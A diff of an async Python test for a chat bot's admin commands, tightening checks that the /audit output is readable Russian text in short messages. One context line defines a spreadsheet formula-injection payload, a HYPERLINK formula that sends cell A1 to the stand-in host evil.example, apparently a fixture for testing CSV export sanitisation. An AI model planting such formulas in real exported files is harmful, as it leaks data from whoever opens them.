@@ -175,7 +175,10 @@ async def test_export_csv_scope_and_audit(harness: Harness, admin):
     assert "Статистика" in joined(await harness.say(admin, "/stats неделя"))
     assert "Как писать" in joined(await harness.say(admin, "/export everything"))
     text = joined(await harness.say(admin, "/audit 5"))
-    assert "export" in text and "role.grant" in text
+    assert "выгрузка" in text and "роль выдана" in text and "стало: сотрудник центра" in text
+    assert "{" not in text and "role.grant" not in text  # words, not JSON and codes
+    sent = await harness.say(admin, "/audit 40")
+    assert len(sent) >= 1 and all(len(m.text) <= 600 for m in sent)  # type: ignore[attr-defined]
 
 
 EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Нажмите")'
